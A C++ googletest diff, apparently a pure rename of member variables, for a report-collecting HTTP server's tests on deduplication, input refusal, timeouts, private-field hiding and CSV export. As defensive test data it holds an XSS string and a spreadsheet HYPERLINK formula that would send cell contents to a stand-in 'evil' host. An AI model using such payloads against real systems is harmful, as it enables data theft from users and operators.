@@ -74,72 +74,72 @@ class ServerTest : public ::testing::TestWithParam<std::string> {
     void SetUp() override
     {
         if (GetParam() == "sqlite") {
-            database_ = FreshSqliteFolder();
+            mDatabase = FreshSqliteFolder();
         } else {
             const char* url = std::getenv("VXM_TEST_POSTGRES_URL");
             if (!url)
                 GTEST_SKIP() << "VXM_TEST_POSTGRES_URL is not set";
-            database_ = url;
+            mDatabase = url;
         }
-        options_.operatorKey = kOperatorKey;
-        options_.requestDeadline = 500ms;
-        options_.maxConnections = 96;
-        options_.maxPerAddress = 96; // every client here is 127.0.0.1
-        log_ = std::tmpfile();
-        options_.requestLogFd = fileno(log_);
-        server_ = std::make_unique<RunningServer>(database_, options_);
-        mac_ = UniqueMac();
+        mOptions.operatorKey = kOperatorKey;
+        mOptions.requestDeadline = 500ms;
+        mOptions.maxConnections = 96;
+        mOptions.maxPerAddress = 96; // every client here is 127.0.0.1
+        mLog = std::tmpfile();
+        mOptions.requestLogFd = fileno(mLog);
+        mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
+        mMac = UniqueMac();
     }
     void TearDown() override
     {
-        server_.reset();
-        if (log_)
-            std::fclose(log_);
+        mServer.reset();
+        if (mLog)
+            std::fclose(mLog);
         if (GetParam() == "sqlite")
-            std::filesystem::remove_all(database_);
+            std::filesystem::remove_all(mDatabase);
     }
     std::string Post(const std::string& body)
     {
-        return Exchange(server_->Port(), PostRequest(body, server_->Port())).bytes;
+        return Exchange(mServer->Port(), PostRequest(body, mServer->Port())).bytes;
     }
 
     // The request log's lines so far.
     std::vector<std::string> LogLines()
     {
         std::vector<std::string> lines;
-        std::rewind(log_);
+        std::rewind(mLog);
         char line[4096];
-        while (std::fgets(line, sizeof line, log_))
+        while (std::fgets(line, sizeof line, mLog))
             lines.emplace_back(line, std::strcspn(line, "\n"));
         return lines;
     }
 
-    std::string database_;
-    std::FILE* log_ = nullptr;
-    ServerOptions options_;
-    std::unique_ptr<RunningServer> server_;
-    std::string mac_;
+    std::string mDatabase;
+    std::FILE* mLog = nullptr;
+    ServerOptions mOptions;
+    std::unique_ptr<RunningServer> mServer;
+    std::string mMac;
 };
 
 TEST_P(ServerTest, RecordsOnceThenRefusesTheRepeat)
 {
-    const std::string first = Post(SampleForm("123456", mac_));
+    const std::string first = Post(SampleForm("123456", mMac));
     EXPECT_EQ(first.rfind("HTTP/1.0 200", 0), 0u) << first;
     EXPECT_EQ(RetCode(first), 0) << first;
     EXPECT_NE(first.find("\\u7684"), std::string::npos) << "message in \\u escapes: " << first;
     // The same report again is a retry, answered as the first: recorded, with its level and rank;
     // another of the account and machine is a repeat.
-    const std::string retry = Post(SampleForm("123456", mac_));
+    const std::string retry = Post(SampleForm("123456", mMac));
     EXPECT_EQ(RetCode(retry), 0) << retry;
     EXPECT_FALSE(LevelAndRank(first).empty()) << first;
     EXPECT_EQ(LevelAndRank(retry), LevelAndRank(first));
-    EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_, "840"))), -1);
+    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
     // Another account on the same machine, and the same account elsewhere, are new reports.
-    EXPECT_EQ(RetCode(Post(SampleForm("654321", mac_))), 0);
+    EXPECT_EQ(RetCode(Post(SampleForm("654321", mMac))), 0);
 
-    const auto stored = StoredWithMac(server_->Recorder(), mac_);
+    const auto stored = StoredWithMac(mServer->Recorder(), mMac);
     ASSERT_EQ(stored.size(), 2u);
-    EXPECT_EQ(stored[0].values, SampleValues("123456", mac_));
+    EXPECT_EQ(stored[0].values, SampleValues("123456", mMac));
     EXPECT_EQ(stored[0].peer, "127.0.0.1");
     EXPECT_NEAR(static_cast<double>(stored[0].receivedAt), static_cast<double>(std::time(nullptr)),
                 60);
@@ -147,20 +147,20 @@ TEST_P(ServerTest, RecordsOnceThenRefusesTheRepeat)
 
 TEST_P(ServerTest, RefusalsStoreNothing)
 {
-    ReportValues forged = SampleValues("123456", mac_);
+    ReportValues forged = SampleValues("123456", mMac);
     forged[static_cast<std::size_t>(ReportField::Gain)] = "850";
     const std::string mismatch = Post(EncodeReportForm(forged));
     EXPECT_EQ(RetCode(mismatch), -2) << mismatch;
-    const std::string form = SampleForm("123456", mac_);
+    const std::string form = SampleForm("123456", mMac);
     EXPECT_EQ(RetCode(Post(form + "&x=1")), -3);
     EXPECT_EQ(RetCode(Post(form.substr(form.find('&') + 1))), -3);
     EXPECT_EQ(RetCode(Post(form.substr(0, form.size() - 1) + "%")), -3);
-    EXPECT_TRUE(StoredWithMac(server_->Recorder(), mac_).empty());
+    EXPECT_TRUE(StoredWithMac(mServer->Recorder(), mMac).empty());
 }
 
 TEST_P(ServerTest, RefusesOtherRequests)
 {
-    const unsigned short port = server_->Port();
+    const unsigned short port = mServer->Port();
     EXPECT_EQ(Get(port, "/nothing").rfind("HTTP/1.0 404", 0), 0u);
     const std::string wrongMethod = Get(port, "/vorn/a20140220checkmachine/postInfo.php");
     EXPECT_EQ(wrongMethod.rfind("HTTP/1.0 405", 0), 0u) << wrongMethod;
@@ -179,18 +179,18 @@ TEST_P(ServerTest, RefusesOtherRequests)
 
 TEST_P(ServerTest, CutsOffSlowAndHalfSentRequests)
 {
-    const unsigned short port = server_->Port();
-    const std::string request = PostRequest(SampleForm("123456", mac_), port);
+    const unsigned short port = mServer->Port();
+    const std::string request = PostRequest(SampleForm("123456", mMac), port);
     const auto start = std::chrono::steady_clock::now();
     // Headers and half the body, then nothing: the deadline (500 ms here) closes it.
     const Received half = Exchange(port, request.substr(0, request.size() - 40), 3s);
     EXPECT_TRUE(half.closed);
     EXPECT_EQ(half.bytes, "");
     EXPECT_LT(std::chrono::steady_clock::now() - start, 2s);
-    EXPECT_TRUE(StoredWithMac(server_->Recorder(), mac_).empty());
+    EXPECT_TRUE(StoredWithMac(mServer->Recorder(), mMac).empty());
 
     // The server still answers afterwards.
-    EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
+    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
 }
 
 // A full server closes the connection that has waited longest for a request to serve a newcomer.
@@ -198,16 +198,16 @@ TEST_P(ServerTest, AFullServerMakesRoomForANewcomer)
 {
     namespace asio = boost::asio;
     // Idle long enough to be evicted, not yet closed at their deadline.
-    options_.requestDeadline = 3s;
-    server_ = std::make_unique<RunningServer>(database_, options_);
+    mOptions.requestDeadline = 3s;
+    mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
     asio::io_context io;
     std::vector<asio::ip::tcp::socket> idle;
-    for (std::size_t i = 0; i < options_.maxConnections; ++i) {
+    for (std::size_t i = 0; i < mOptions.maxConnections; ++i) {
         idle.emplace_back(io);
-        idle.back().connect({asio::ip::make_address("127.0.0.1"), server_->Port()});
+        idle.back().connect({asio::ip::make_address("127.0.0.1"), mServer->Port()});
     }
     std::this_thread::sleep_for(kFirstRequestGrace + 100ms);
-    const Received served = Exchange(server_->Port(), "GET / HTTP/1.0\r\n\r\n", 2s);
+    const Received served = Exchange(mServer->Port(), "GET / HTTP/1.0\r\n\r\n", 2s);
     EXPECT_EQ(served.bytes.rfind("HTTP/1.0 200", 0), 0u) << served.bytes.substr(0, 80);
     char byte;
     boost::system::error_code closed;
@@ -215,7 +215,7 @@ TEST_P(ServerTest, AFullServerMakesRoomForANewcomer)
     EXPECT_EQ(closed, asio::error::eof) << "the oldest idle connection was closed";
     idle.clear();
     std::this_thread::sleep_for(100ms);
-    EXPECT_EQ(Get(server_->Port(), "/").rfind("HTTP/1.0 200", 0), 0u);
+    EXPECT_EQ(Get(mServer->Port(), "/").rfind("HTTP/1.0 200", 0), 0u);
 }
 
 TEST_P(ServerTest, SimultaneousReportsOfOneAccountAndMachineAreRecordedOnce)
@@ -224,7 +224,7 @@ TEST_P(ServerTest, SimultaneousReportsOfOneAccountAndMachineAreRecordedOnce)
     std::vector<std::thread> clients;
     for (int i = 0; i < 16; ++i) {
         clients.emplace_back([&, i] {
-            const int code = RetCode(Post(SampleForm("777777", mac_, std::to_string(800 + i))));
+            const int code = RetCode(Post(SampleForm("777777", mMac, std::to_string(800 + i))));
             if (code == 0)
                 ++recorded;
             if (code == -1)
@@ -235,7 +235,7 @@ TEST_P(ServerTest, SimultaneousReportsOfOneAccountAndMachineAreRecordedOnce)
         client.join();
     EXPECT_EQ(recorded, 1);
     EXPECT_EQ(repeated, 15);
-    EXPECT_EQ(StoredWithMac(server_->Recorder(), mac_).size(), 1u);
+    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 1u);
 }
 
 TEST_P(ServerTest, ManyClientsOnFourThreadsStoreExactlyWhatWasAnsweredRecorded)
@@ -248,7 +248,7 @@ TEST_P(ServerTest, ManyClientsOnFourThreadsStoreExactlyWhatWasAnsweredRecorded)
             for (int i = 0; i < 4; ++i) {
                 // The fourth another report of the first's account: a repeat.
                 const int code = RetCode(Post(SampleForm(std::to_string(100000 + c * 10 + i % 3),
-                                                         mac_, i == 3 ? "840" : "841")));
+                                                         mMac, i == 3 ? "840" : "841")));
                 (code == 0 ? recorded : code == -1 ? repeated : other)++;
             }
         });
@@ -258,18 +258,18 @@ TEST_P(ServerTest, ManyClientsOnFourThreadsStoreExactlyWhatWasAnsweredRecorded)
     EXPECT_EQ(recorded, 64 * 3);
     EXPECT_EQ(repeated, 64);
     EXPECT_EQ(other, 0);
-    EXPECT_EQ(StoredWithMac(server_->Recorder(), mac_).size(), 64u * 3);
+    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 64u * 3);
 }
 
 TEST_P(ServerTest, PageShowsAggregatesAndNoPrivateField)
 {
-    ReportValues values = SampleValues("918273", mac_);
+    ReportValues values = SampleValues("918273", mMac);
     values[static_cast<std::size_t>(ReportField::Cpu)] = "<script>alert(1)</script> CPU";
     values[static_cast<std::size_t>(ReportField::HostName)] = "secret-user@SECRET-PC";
     values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
     ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
 
-    const std::string page = Get(server_->Port(), "/");
+    const std::string page = Get(mServer->Port(), "/");
     EXPECT_EQ(page.rfind("HTTP/1.0 200", 0), 0u);
     EXPECT_NE(page.find("Content-Type: text/html; charset=utf-8"), std::string::npos);
     EXPECT_NE(page.find("&lt;script&gt;alert(1)&lt;/script&gt; CPU"), std::string::npos);
@@ -280,15 +280,15 @@ TEST_P(ServerTest, PageShowsAggregatesAndNoPrivateField)
     EXPECT_NE(page.find(">8 GB<"), std::string::npos);
     EXPECT_NE(page.find(">4 GB<"), std::string::npos);
     EXPECT_EQ(page.find("4095.00 MB"), std::string::npos);
-    for (const std::string& secret : {std::string("918273"), std::string("SECRET-PC"), mac_})
+    for (const std::string& secret : {std::string("918273"), std::string("SECRET-PC"), mMac})
         EXPECT_EQ(page.find(secret), std::string::npos) << secret;
     EXPECT_EQ(page.find("127.0.0.1"), std::string::npos);
 }
 
 TEST_P(ServerTest, ExportNeedsTheOperatorKey)
 {
-    ASSERT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
-    const unsigned short port = server_->Port();
+    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
+    const unsigned short port = mServer->Port();
     EXPECT_EQ(Get(port, "/export.csv").rfind("HTTP/1.0 401", 0), 0u);
     // The scheme in any case.
     const std::string byHeader =
@@ -297,10 +297,10 @@ TEST_P(ServerTest, ExportNeedsTheOperatorKey)
     EXPECT_NE(byHeader.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
     EXPECT_EQ(csv.rfind("\xEF\xBB\xBFid,received,peer,u,mc,cpu,", 0), 0u);
     // The GBK host name arrives as UTF-8; the processor name with its comma is quoted.
-    const auto line = csv.find("," + mac_ + ",");
+    const auto line = csv.find("," + mMac + ",");
     ASSERT_NE(line, std::string::npos) << csv;
     EXPECT_NE(csv.find("张三@PC-01", line), std::string::npos);
-    EXPECT_NE(csv.find(",127.0.0.1,123456," + mac_ + ",Intel(R) Core(TM) i7 CPU,"),
+    EXPECT_NE(csv.find(",127.0.0.1,123456," + mMac + ",Intel(R) Core(TM) i7 CPU,"),
               std::string::npos);
     EXPECT_NE(csv.find("\"Windows 6.1, SP 1.0\""), std::string::npos);
 }
@@ -308,8 +308,8 @@ TEST_P(ServerTest, ExportNeedsTheOperatorKey)
 TEST_P(ServerTest, DevicesTheTablesDoNotRateAreListedOnThePageAndForTheOperator)
 {
     // The sample's processor is no table entry; its adapter is.
-    ASSERT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
-    const unsigned short port = server_->Port();
+    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
+    const unsigned short port = mServer->Port();
     EXPECT_EQ(Get(port, "/unknown.csv").rfind("HTTP/1.0 401", 0), 0u);
     const std::string reply = Export(port, "/unknown.csv");
     EXPECT_NE(reply.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
@@ -329,7 +329,7 @@ TEST_P(ServerTest, DevicesTheTablesDoNotRateAreListedOnThePageAndForTheOperator)
 
     // A name with a byte GBK does not decode: the stored bytes in the raw form, \xNN in the
     // default one (as the export writes it), so two such names never look alike.
-    ReportValues odd = SampleValues("123457", mac_);
+    ReportValues odd = SampleValues("123457", mMac);
     odd[static_cast<std::size_t>(ReportField::Cpu)] = "\xD5\xC5 CPU \xFF";
     odd[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(odd);
     ASSERT_EQ(RetCode(Post(EncodeReportForm(odd))), 0);
@@ -352,14 +352,14 @@ std::int64_t IdOfLineWith(const std::string& csv, const std::string& text)
 TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
 {
     const std::string hostile = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
-    ReportValues values = SampleValues("246810", mac_);
+    ReportValues values = SampleValues("246810", mMac);
     values[static_cast<std::size_t>(ReportField::Cpu)] = hostile;
     // A Western code page's name, with a byte GBK does not hold.
     values[static_cast<std::size_t>(ReportField::HostName)] = "Jos\xE9@PC-01\xFF";
     values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
     ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
-    ASSERT_EQ(RetCode(Post(SampleForm("135791", mac_))), 0);
-    const unsigned short port = server_->Port();
+    ASSERT_EQ(RetCode(Post(SampleForm("135791", mMac))), 0);
+    const unsigned short port = mServer->Port();
     const std::string safe = BodyOf(Export(port, "/export.csv"));
     const std::string raw = BodyOf(Export(port, "/export.csv?raw=1"));
     EXPECT_NE(safe.find(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","),
@@ -370,31 +370,31 @@ TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
     EXPECT_NE(raw.find(",Jos\xE9@PC-01\xFF,"), std::string::npos);
 
     // after=<id> gives only the later rows: a nightly pull takes each report once.
-    const std::int64_t first = IdOfLineWith(raw, ",246810," + mac_ + ",");
-    const std::int64_t second = IdOfLineWith(raw, ",135791," + mac_ + ",");
+    const std::int64_t first = IdOfLineWith(raw, ",246810," + mMac + ",");
+    const std::int64_t second = IdOfLineWith(raw, ",135791," + mMac + ",");
     ASSERT_GT(first, 0) << raw;
     ASSERT_GT(second, first);
     const std::string later =
         BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(first)));
     EXPECT_EQ(later.find(",246810,"), std::string::npos);
-    EXPECT_EQ(IdOfLineWith(later, ",135791," + mac_ + ","), second);
+    EXPECT_EQ(IdOfLineWith(later, ",135791," + mMac + ","), second);
     const std::string none =
         BodyOf(Export(port, "/export.csv?raw=1&after=" + std::to_string(second)));
-    EXPECT_EQ(none.find(mac_), std::string::npos);
+    EXPECT_EQ(none.find(mMac), std::string::npos);
     EXPECT_EQ(Export(port, "/export.csv?after=x").rfind("HTTP/1.0 400", 0), 0u);
 }
 
 TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
 {
-    const unsigned short port = server_->Port();
+    const unsigned short port = mServer->Port();
     const std::string health = Get(port, "/healthz");
     EXPECT_EQ(health.rfind("HTTP/1.0 200", 0), 0u) << health;
     EXPECT_EQ(BodyOf(health), "ok\n");
 
-    ReportValues forged = SampleValues("123456", mac_);
+    ReportValues forged = SampleValues("123456", mMac);
     forged[static_cast<std::size_t>(ReportField::Gain)] = "850";
-    EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
-    EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_, "840"))), -1);
+    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
+    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
     EXPECT_EQ(RetCode(Post(EncodeReportForm(forged))), -2);
     EXPECT_EQ(RetCode(Post("u=1")), -3);
     EXPECT_EQ(Export(port, "/export.csv?raw=1").rfind("HTTP/1.0 200", 0), 0u);
@@ -442,7 +442,7 @@ TEST_P(ServerTest, HealthMetricsAndOneLogLinePerRequest)
         EXPECT_NE(lines[i].find(" us="), std::string::npos) << lines[i];
         // Nothing private: no account, MAC, name, key or query.
         for (const std::string& secret :
-             {std::string("123456"), mac_, std::string("PC-01"), kOperatorKey, std::string("?")})
+             {std::string("123456"), mMac, std::string("PC-01"), kOperatorKey, std::string("?")})
             EXPECT_EQ(lines[i].find(secret), std::string::npos) << secret << " in " << lines[i];
     }
 }
@@ -496,22 +496,22 @@ TEST(ServerWithoutStore, HealthSaysUnavailableAndEveryFailureIsCounted)
 
 TEST_P(ServerTest, RestartLosesNothing)
 {
-    ASSERT_EQ(RetCode(Post(SampleForm("123456", mac_))), 0);
-    server_ = std::make_unique<RunningServer>(database_, options_);
-    EXPECT_EQ(StoredWithMac(server_->Recorder(), mac_).size(), 1u);
-    EXPECT_EQ(RetCode(Post(SampleForm("123456", mac_, "840"))), -1);
+    ASSERT_EQ(RetCode(Post(SampleForm("123456", mMac))), 0);
+    mServer = std::make_unique<RunningServer>(mDatabase, mOptions);
+    EXPECT_EQ(StoredWithMac(mServer->Recorder(), mMac).size(), 1u);
+    EXPECT_EQ(RetCode(Post(SampleForm("123456", mMac, "840"))), -1);
 }
 
 TEST_P(ServerTest, TwoServersOnOneDatabaseRecordOnce)
 {
     if (GetParam() != "postgres")
         GTEST_SKIP() << "one SQLite file belongs to one server process";
-    RunningServer other(database_, options_);
+    RunningServer other(mDatabase, mOptions);
     std::atomic<int> recorded{0}, repeated{0};
     std::vector<std::thread> clients;
     for (int i = 0; i < 8; ++i) {
-        const unsigned short port = i % 2 ? other.Port() : server_->Port();
-        const std::string body = SampleForm("555555", mac_, std::to_string(800 + i));
+        const unsigned short port = i % 2 ? other.Port() : mServer->Port();
+        const std::string body = SampleForm("555555", mMac, std::to_string(800 + i));
         clients.emplace_back([&, port, body] {
             const int code = RetCode(Exchange(port, PostRequest(body, port)).bytes);
             if (code == 0)
